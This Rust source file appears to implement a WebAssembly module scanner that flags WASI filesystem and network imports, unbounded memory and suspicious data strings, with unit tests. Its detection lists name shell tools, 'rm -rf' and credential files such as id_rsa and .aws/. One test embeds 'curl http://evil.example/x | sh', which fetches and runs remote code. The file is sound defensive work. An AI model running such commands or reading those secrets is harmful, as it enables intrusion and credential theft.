//! The scan of a WebAssembly module (`.wasm` binary or `.wat` text): its imports are the
//! capabilities it asks for, its data segments may name hosts, paths or commands. Scored with
//! the same categories, scores and verdicts as JavaScript.
//!
//! Positions: a finding's `start`/`end` are byte offsets into the module binary (for a `.wat`
//! file, the binary it compiles to) and its line/column are 1/offset+1; the message names the
//! import or the data string.

use super::rules::RuleId;
use super::{aggregate, Finding, Metrics, Report, ScanContext, Verdict, MAX_PER_RULE};
use crate::engine::exec::wasm::{import_category, is_wasi_function, module_bytes, WASI_MODULE};
use crate::engine::Category;
use serde::{Deserialize, Serialize};
use wasmparser::{Parser, Payload, TypeRef};

/// What a module declares (listed by `sandbench scan` and the workbench).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WasmInfo {
    /// `module.field (kind)`.
    pub imports: Vec<String>,
    /// `name (kind)`.
    pub exports: Vec<String>,
    /// `min..max` pages of 64 KB per memory (`max` absent: unbounded).
    pub memories: Vec<String>,
    /// Index of the start function, which runs at instantiation.
    pub start: Option<u32>,
    /// Data segments' total size, in bytes.
    pub data_bytes: usize,
}

/// Most imports/exports listed (the rest are counted in a last entry).
const MAX_LISTED: usize = 200;

/// Shortest printable run of a data segment looked at as a string.
const MIN_STRING: usize = 6;

/// Scans a module given as file bytes (binary or text). Never panics on any input; a module
/// that does not parse or validate is a report with `parse_error` and no findings.
pub fn scan_module(input: &[u8]) -> (Report, WasmInfo) {
    let sha256 = crate::engine::hash::sha256_hex(input);
    let metrics = Metrics {
        bytes: input.len(),
        ..Metrics::default()
    };
    let binary = match module_bytes(input) {
        Ok(b) => b,
        Err(e) => {
            let r = Report {
                sha256,
                context: ScanContext::Plugin,
                score: 0,
                verdict: Verdict::Allow,
                findings: Vec::new(),
                metrics,
                parse_error: Some(e.to_string()),
            };
            return (r, WasmInfo::default());
        }
    };
    let (info, findings) = analyse(&binary);
    let score = aggregate(&findings);
    let r = Report {
        sha256,
        context: ScanContext::Plugin,
        score,
        verdict: Verdict::from_score(score),
        findings,
        metrics,
        parse_error: None,
    };
    (r, info)
}

fn finding(rule: RuleId, start: usize, end: usize, what: &str) -> Finding {
    let base = Finding::of_rule(rule);
    // A module's read grant does not make a finding granted use: its findings name WASI
    // functions and data strings, not the paths a grant covers (no target, never granted).
    Finding {
        column: start as u32 + 1,
        end_column: end as u32 + 1,
        start,
        end,
        message: format!("{}: {what}", base.message),
        snippet: crate::engine::text::escape(&crate::engine::text::truncate(what, 120), false)
            .into_owned(),
        ..base
    }
}

/// What an export is, in the text format's words (`func`, `table`, `memory`, …).
pub fn export_kind(k: wasmparser::ExternalKind) -> &'static str {
    use wasmparser::ExternalKind;
    match k {
        ExternalKind::Func | ExternalKind::FuncExact => "func",
        ExternalKind::Table => "table",
        ExternalKind::Memory => "memory",
        ExternalKind::Global => "global",
        ExternalKind::Tag => "tag",
    }
}

/// What an import is, in the text format's words (`func`, `table`, `memory`, …).
pub fn import_kind(t: &TypeRef) -> &'static str {
    match t {
        TypeRef::Func(_) | TypeRef::FuncExact(_) => "func",
        TypeRef::Table(_) => "table",
        TypeRef::Memory(_) => "memory",
        TypeRef::Global(_) => "global",
        TypeRef::Tag(_) => "tag",
    }
}

fn analyse(binary: &[u8]) -> (WasmInfo, Vec<Finding>) {
    let mut info = WasmInfo::default();
    let mut out: Vec<Finding> = Vec::new();
    // Data strings that name a sensitive path: (start, end, text).
    let mut sensitive: Vec<(usize, usize, String)> = Vec::new();
    let push = |out: &mut Vec<Finding>, f: Finding| {
        if out.iter().filter(|g| g.rule == f.rule).count() < MAX_PER_RULE {
            out.push(f);
        }
    };
    for payload in Parser::new(0).parse_all(binary) {
        // The module validated, so every payload parses; stop quietly if one does not.
        let Ok(payload) = payload else { break };
        match payload {
            Payload::ImportSection(reader) => {
                for imp in reader.into_imports_with_offsets().flatten() {
                    let (offset, imp) = imp;
                    let label = format!("{}.{}", imp.module, imp.name);
                    if info.imports.len() < MAX_LISTED {
                        info.imports
                            .push(format!("{label} ({})", import_kind(&imp.ty)));
                    }
                    let end = offset + label.len();
                    let is_func = matches!(imp.ty, TypeRef::Func(_));
                    if imp.module == WASI_MODULE && is_func && is_wasi_function(imp.name) {
                        if imp.name.starts_with("path_") {
                            push(
                                &mut out,
                                finding(RuleId::WasmWasiFilesystem, offset, end, &label),
                            );
                        } else if imp.name.starts_with("sock_") {
                            push(
                                &mut out,
                                finding(RuleId::WasmWasiNetwork, offset, end, &label),
                            );
                        }
                        continue;
                    }
                    let rule = match import_category(imp.module, imp.name) {
                        Category::ChildProcess => RuleId::WasmCommandImport,
                        _ => RuleId::WasmHostImport,
                    };
                    push(&mut out, finding(rule, offset, end, &label));
                }
            }
            Payload::ExportSection(reader) => {
                for e in reader.into_iter().flatten() {
                    if info.exports.len() < MAX_LISTED {
                        let k = export_kind(e.kind);
                        info.exports.push(format!("{} ({k})", e.name));
                    }
                }
            }
            Payload::MemorySection(reader) => {
                let range = reader.range();
                for m in reader.into_iter().flatten() {
                    let max = m
                        .maximum
                        .map_or_else(|| "unbounded".to_string(), |x| x.to_string());
                    info.memories.push(format!("{}..{max} pages", m.initial));
                    if m.maximum.is_none() {
                        push(
                            &mut out,
                            finding(
                                RuleId::WasmUnboundedMemory,
                                range.start,
                                range.end,
                                &format!("memory of {} pages, no maximum", m.initial),
                            ),
                        );
                    }
                }
            }
            Payload::StartSection { func, .. } => info.start = Some(func),
            Payload::DataSection(reader) => {
                for d in reader.into_iter().flatten() {
                    info.data_bytes += d.data.len();
                    let base = d.range.end.saturating_sub(d.data.len());
                    for (at, s) in strings(d.data) {
                        if let Some(rule) = classify(&s) {
                            let (start, end) = (base + at, base + at + s.len());
                            if rule == RuleId::SensitivePath && sensitive.len() < MAX_PER_RULE {
                                sensitive.push((start, end, s.clone()));
                            }
                            push(&mut out, finding(rule, start, end, &s));
                        }
                    }
                }
            }
            _ => {}
        }
    }
    // A credential path alone is a mention (`sensitive-path`, 30) and path imports alone are
    // a request for files (35): neither is a review. Together, in one module, they are what a
    // credential read would look like. A binary has no data flow we can follow from a data
    // segment to `path_open`'s arguments (the pointer is computed at run time), so this is
    // co-occurrence, scored as a review rather than as `credential-read`'s proven flow (block).
    let opens_paths = out.iter().any(|f| f.rule == RuleId::WasmWasiFilesystem);
    if opens_paths {
        for (start, end, what) in sensitive {
            push(
                &mut out,
                finding(RuleId::WasmSensitivePathOpen, start, end, &what),
            );
        }
    }
    out.sort_by(|a, b| b.score.cmp(&a.score).then(a.start.cmp(&b.start)));
    (info, out)
}

/// Printable ASCII runs of at least [`MIN_STRING`] bytes, with their offsets.
fn strings(data: &[u8]) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, &b) in data.iter().chain(std::iter::once(&0u8)).enumerate() {
        let printable = (0x20..0x7f).contains(&b) || b == b'\t';
        match (printable, start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if i - s >= MIN_STRING {
                    let text: String = data[s..i].iter().map(|&c| c as char).collect();
                    out.push((s, text));
                }
                start = None;
            }
            _ => {}
        }
        if out.len() >= 10_000 {
            break;
        }
    }
    out
}

/// What a data string looks like, if anything worth a finding.
fn classify(s: &str) -> Option<RuleId> {
    let l = s.to_ascii_lowercase();
    let has = |w: &[&str]| w.iter().any(|x| l.contains(x));
    if has(&["stratum+tcp://", "stratum+ssl://", "xmrig", "cryptonight"]) {
        return Some(RuleId::Cryptominer);
    }
    if has(&[
        "/bin/sh",
        "/bin/bash",
        "| sh",
        "|sh",
        "| bash",
        "curl ",
        "wget ",
        "rm -rf",
        "nc -e",
        "powershell",
        "chmod +x",
        "cmd.exe",
    ]) {
        return Some(RuleId::ChildProcess);
    }
    if has(&[
        "/etc/passwd",
        "/etc/shadow",
        ".ssh/",
        "id_rsa",
        ".aws/",
        ".npmrc",
        "/proc/self",
        ".kube/config",
        ".docker/config",
    ]) {
        return Some(RuleId::SensitivePath);
    }
    if has(&["http://", "https://", "ws://", "wss://", "ftp://"]) {
        return Some(RuleId::WasmDataUrl);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(wat: &str) -> (Report, WasmInfo) {
        scan_module(wat.as_bytes())
    }

    #[test]
    fn a_wasi_hello_is_allowed_and_listed() {
        let (r, info) = scan(
            r#"(module (import "wasi_snapshot_preview1" "fd_write" (func (param i32 i32 i32 i32) (result i32)))
               (memory (export "memory") 1 2) (func (export "_start")))"#,
        );
        assert_eq!(r.verdict, Verdict::Allow, "{r:?}");
        assert!(r.findings.is_empty());
        assert_eq!(info.imports, ["wasi_snapshot_preview1.fd_write (func)"]);
        assert_eq!(info.exports, ["memory (memory)", "_start (func)"]);
        assert_eq!(info.memories, ["1..2 pages"]);
    }

    #[test]
    fn a_command_import_with_a_shell_string_is_blocked() {
        let (r, _) = scan(
            r#"(module (import "env" "system" (func (param i32) (result i32)))
               (memory 1) (data (i32.const 0) "curl http://evil.example/x | sh"))"#,
        );
        assert_eq!(r.verdict, Verdict::Block, "{r:?}");
        let rules: Vec<RuleId> = r.findings.iter().map(|f| f.rule).collect();
        assert!(rules.contains(&RuleId::WasmCommandImport), "{rules:?}");
        assert!(rules.contains(&RuleId::ChildProcess), "{rules:?}");
    }

    #[test]
    fn path_open_and_passwd_ask_for_review() {
        let (r, _) = scan(
            r#"(module (import "wasi_snapshot_preview1" "path_open" (func (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
               (memory 1 1) (data (i32.const 0) "/etc/passwd"))"#,
        );
        assert_eq!(r.verdict, Verdict::Review, "{r:?}");
        assert_eq!(r.score, 50, "{r:?}");
        let f = r
            .findings
            .iter()
            .find(|f| f.rule == RuleId::WasmSensitivePathOpen)
            .expect("the combined finding");
        assert_eq!(f.category, Category::Filesystem);
        assert!(f.message.contains("/etc/passwd"), "{}", f.message);
    }

    #[test]
    fn a_sensitive_path_alone_or_path_imports_alone_are_allowed() {
        // The benign twins of the test above: a module that mentions /etc/passwd but cannot
        // open files, and one that opens files but names no sensitive path.
        let (r, _) = scan(r#"(module (memory 1 1) (data (i32.const 0) "/etc/passwd"))"#);
        assert_eq!(r.verdict, Verdict::Allow, "{r:?}");
        assert!(r.findings.iter().any(|f| f.rule == RuleId::SensitivePath));
        assert!(!r
            .findings
            .iter()
            .any(|f| f.rule == RuleId::WasmSensitivePathOpen));
        let (r, _) = scan(
            r#"(module (import "wasi_snapshot_preview1" "path_open" (func (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
               (memory 1 1) (data (i32.const 0) "config/settings.json"))"#,
        );
        assert_eq!(r.verdict, Verdict::Allow, "{r:?}");
        assert!(!r
            .findings
            .iter()
            .any(|f| f.rule == RuleId::WasmSensitivePathOpen));
    }

    #[test]
    fn garbage_is_a_parse_error_not_a_panic() {
        for input in [
            &b"\0asm\x01\0\0\0\x05\xff"[..],
            b"(module",
            b"",
            &[0xff; 100],
        ] {
            let (r, _) = scan_module(input);
            assert!(r.parse_error.is_some(), "{input:?}");
            assert_eq!(r.verdict, Verdict::Allow);
        }
    }
}
